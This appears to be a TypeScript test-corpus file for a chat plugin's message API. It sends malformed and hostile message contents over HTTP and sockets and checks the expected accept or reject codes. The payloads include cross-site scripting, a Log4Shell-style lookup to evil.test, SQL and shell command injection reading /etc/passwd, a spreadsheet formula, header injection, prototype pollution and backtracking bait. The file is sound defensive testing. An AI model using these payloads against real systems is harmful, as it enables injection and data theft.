import { NO_STRINGS, type EventRow, type Heading, type HttpRow } from './row.ts'

type Said = readonly [what: string, text: unknown, code: 'ok' | 'empty_message' | 'invalid_field']

const texts: readonly Said[] = [
  ...Object.entries(NO_STRINGS).map(([what, value]): Said => [what, value, 'invalid_field']),
  ['nothing', '', 'empty_message'],
  ['blanks', '  \n\t ', 'empty_message'],
  ['a zero-width space', '\u200b', 'empty_message'],
  ['a blank of Braille', '\u2800', 'empty_message'],
  ['a Hangul filler', '\u3164', 'empty_message'],
  ['variation selectors', '\ufe0f\ufe0f', 'empty_message'],
  ['tag characters alone', '\u{e0041}\u{e007f}', 'empty_message'],
  ['a soft hyphen', '\u00ad', 'empty_message'],
  ['bidirectional marks alone', '\u202e\u202c\u2066\u2069', 'empty_message'],
  ['8,001 characters', 'x'.repeat(8001), 'invalid_field'],
  ['8,001 faces', '😀'.repeat(8001), 'invalid_field'],
  ['a NUL', 'a\0b', 'invalid_field'],
  ['a bell', 'a\u0007', 'invalid_field'],
  ['an escape sequence', '\u001b]0;owned\u0007', 'invalid_field'],
  ['a delete character', 'a\u007f', 'invalid_field'],
  ['the first half of a character', 'a\ud83d', 'invalid_field'],
  ['the second half of a character', '\ude00a', 'invalid_field'],
  ['the halves of a character in the wrong order', '\ude00\ud83d', 'invalid_field'],
  ['8,000 characters', 'x'.repeat(8000), 'ok'],
  ['8,000 faces', '😀'.repeat(8000), 'ok'],
  ['a bidirectional override', 'invoice\u202efdp.exe', 'ok'],
  ['a hundred marks on one letter', `a${'\u0301'.repeat(100)}`, 'ok'],
  ['noncharacters', 'a\uffff\ufffe\u{1ffff}', 'ok'],
  ['a byte order mark in front', '\ufeffhello', 'ok'],
  ['line separators', 'a\u2028b\u2029c', 'ok'],
  ['a thousand line feeds', `a${'\n'.repeat(1000)}b`, 'ok'],
  ['a script', '<script>alert(1)</script>', 'ok'],
  ['a picture that fails', '<img src=x onerror=alert(1)>', 'ok'],
  ['a drawing that loads', '<svg/onload=alert(1)>', 'ok'],
  ['a frame', '"><iframe srcdoc="<script>1</script>">', 'ok'],
  ['an end of a script', '</script><!--', 'ok'],
  ['a link to a script', '[x](javascript:alert(1))', 'ok'],
  ['a link to data', '[x](data:text/html;base64,PHNjcmlwdD4=)', 'ok'],
  ['links of other schemes', 'vbscript:x file:///etc/passwd blob:x intent://x#Intent;end ms-msdt:/id', 'ok'],
  ['a link with a password', 'https://google.com@evil.test/', 'ok'],
  ['a link in another script', 'https://аpple.com', 'ok'],
  ['a link of 7,000', `https://x.test/${'x'.repeat(7000)}`, 'ok'],
  ['curly templates', '{{constructor.constructor("alert(1)")()}}', 'ok'],
  ['dollar templates', '${7*7} #{7*7} <%= 7*7 %>', 'ok'],
  ['a lookup', '${jndi:ldap://evil.test/a}', 'ok'],
  ['a format', '%s%n%x%p %d', 'ok'],
  ['SQL', "'; DROP TABLE events; --", 'ok'],
  ['a search expression', 'NEAR("a" "b") OR * AND NOT ^col:"', 'ok'],
  ['wildcards', '%_%[a-z]*?', 'ok'],
  ['bait for backtracking', `${'a'.repeat(5000)}!`, 'ok'],
  ['an address that never ends', 'a@'.repeat(3000), 'ok'],
  ['brackets without end', '[('.repeat(3000), 'ok'],
  ['JSON', '{"type":"text","text":"x"}', 'ok'],
  ['a virtual node as text', '{"type":"img","props":{"onerror":"alert(1)"},"constructor":null}', 'ok'],
  ['a Socket.IO frame', '42/chatplugin,["message.created",{}]', 'ok'],
  ['the record separator of polling', 'a', 'ok'],
  ['a name of a prototype', '__proto__', 'ok'],
  ['a formula', '=HYPERLINK("http://evil.test")', 'ok'],
  ['a command', '$(rm -rf /) `id` | cat /etc/passwd', 'ok'],
  ['header lines', 'a\r\nSet-Cookie: x=1\r\n\r\n', 'ok'],
]

/** Contents whose form is wrong. */
const contents: readonly [what: string, content: unknown, code: 'ok' | 'unknown_field' | 'invalid_field' | 'empty_message'][] = [
  ['null', null, 'invalid_field'],
  ['a word', 'hello', 'invalid_field'],
  ['a list', [], 'invalid_field'],
  ['an empty object', {}, 'invalid_field'],
  ['a type that is none', { type: 'html', text: '<b>' }, 'invalid_field'],
  ['a type in capitals', { type: 'TEXT', text: 'x' }, 'invalid_field'],
  ['a type that is a list', { type: ['text'], text: 'x' }, 'invalid_field'],
  ['a type of a prototype', { type: '__proto__' }, 'invalid_field'],
  ['a virtual node', { type: 'text', text: 'x', props: { dangerouslySetInnerHTML: { __html: '<img>' } } }, 'unknown_field'],
  ['a virtual node of another library', { $$typeof: 'Symbol(react.element)', type: 'text', text: 'x' }, 'unknown_field'],
  ['a rich form of the sender’s own', { type: 'text', text: 'x', rich: [{ tag: 'script', children: [] }] }, 'unknown_field'],
  ['no replies', { type: 'quick_replies', text: 'x', replies: [] }, 'invalid_field'],
  ['a hundred replies', { type: 'quick_replies', text: 'x', replies: Array.from({ length: 100 }, () => ({ title: 'a', payload: 'a' })) }, 'invalid_field'],
  ['a reply nobody can see', { type: 'quick_replies', text: 'x', replies: [{ title: '\u200b', payload: 'a' }] }, 'empty_message'],
  ['a card that leads to a script', { type: 'card', title: 'x', actions: [{ type: 'link', title: 'x', url: 'javascript:alert(1)' }] }, 'invalid_field'],
  ['a card with a picture of data', { type: 'card', title: 'x', image_url: 'data:image/svg+xml,<svg onload=alert(1)>' }, 'invalid_field'],
  ['a card with an action that is none', { type: 'card', title: 'x', actions: [{ type: 'run', title: 'x' }] }, 'invalid_field'],
  ['no cards', { type: 'carousel', cards: [] }, 'invalid_field'],
  ['eleven cards', { type: 'carousel', cards: Array.from({ length: 11 }, () => ({ title: 'x' })) }, 'invalid_field'],
  ['an event at no time', { type: 'event', name: 'n', title: 't', occurred_at: 'yesterday', data: {} }, 'invalid_field'],
  ['an event in month thirteen', { type: 'event', name: 'n', title: 't', occurred_at: '2026-13-01T00:00:00.000Z', data: {} }, 'invalid_field'],
  ['a card with markup', { type: 'card', title: '<b>x</b>', description: '{{x}}', actions: [{ type: 'reply', title: '"><', payload: '__proto__' }] }, 'ok'],
  ['an event with a virtual node', { type: 'event', name: 'n', title: 't', occurred_at: '2026-01-01T00:00:00.000Z', data: { type: 'img', props: { src: 'x', onerror: 'alert(1)' }, __k: null, __v: 1 } }, 'ok'],
]

const all = [...texts.map(([what, text, code]) => ({ what, content: { type: 'text', text }, code })), ...contents.map(([what, content, code]) => ({ what, content, code }))]
const statusOf = (code: string): string => (code === 'ok' ? '200 ok' : `422 ${code}`)
const idOf = (entrance: string, index: number): string => `${entrance}-of-the-corpus-${index}`

/** Everything that can be said, and much that cannot, by a backend. */
export const saidOverHttp: Heading<HttpRow> = ({ conversationId }) => all.map(({ what, content, code }) => ({ what: `says ${what}`, call: 'messages.send', body: { conversation_id: conversationId, content }, expect: statusOf(code) }))

/** The same by an agent on a socket. */
export const saidByAgents: Heading<EventRow> = ({ conversationId }) => all.map(({ what, content, code }, index) => ({ what: `an agent says ${what}`, namespace: '/agents', args: ['message.send', { conversation_id: conversationId, client_message_id: idOf('agent', index), content }], expect: code }))

/** A visitor may say texts and nothing else. */
export const saidByVisitors: Heading<EventRow> = () => texts.map(([what, text, code], index) => ({ what: `a visitor says ${what}`, namespace: '/chatplugin', args: ['message.send', { client_message_id: idOf('visitor', index), content: { type: 'text', text } }], expect: code }))
